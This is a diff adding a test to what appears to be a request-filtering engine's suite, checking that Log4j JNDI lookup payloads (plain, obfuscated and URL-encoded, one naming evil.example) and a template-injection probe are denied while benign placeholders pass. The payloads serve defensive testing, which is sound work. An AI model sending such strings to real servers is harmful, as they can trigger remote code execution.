@@ -273,6 +273,29 @@ t.test('server-side template expressions; bare placeholders pass', async (t) => 
     allowed(t, p);
 });
 
+t.test('Log4j lookups and template expressions in the path, as scanners send them', async (t) => {
+  for (const [target, rule] of [
+    ['/${jndi:ldap://evil.example/a}', 'rce-160'],
+    ['/api/${${lower:j}ndi:rmi://x/a}', 'rce-160'],
+    ['/%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D', 'rce-160'],
+    ['/api/receipts/%7B%7B7*7%7D%7D', 'rce-170'],
+  ] as const) {
+    const v = inspectRequest(engine, { method: 'GET', target, headers: H, body: null });
+    t.equal(v.decision, 'deny', `${target} refused`);
+    t.equal(v.deny?.reason, 'cmd_injection', `${target} reason`);
+    t.ok(
+      v.matches.some((m) => m.ruleId === rule && m.target === 'path'),
+      `${target} matched by ${rule} on the path`,
+    );
+  }
+  for (const target of ['/api/receipts/${amount}', '/api/receipts/%7Bid%7D', '/docs/__init__.py'])
+    t.equal(
+      inspectRequest(engine, { method: 'GET', target, headers: H, body: null }).decision,
+      'allow',
+      target,
+    );
+});
+
 t.test('UNION SELECT split by a line comment and a line break; PostgreSQL COPY … TO PROGRAM', async (t) => {
   for (const p of [
     '1 union -- x\nselect 1',
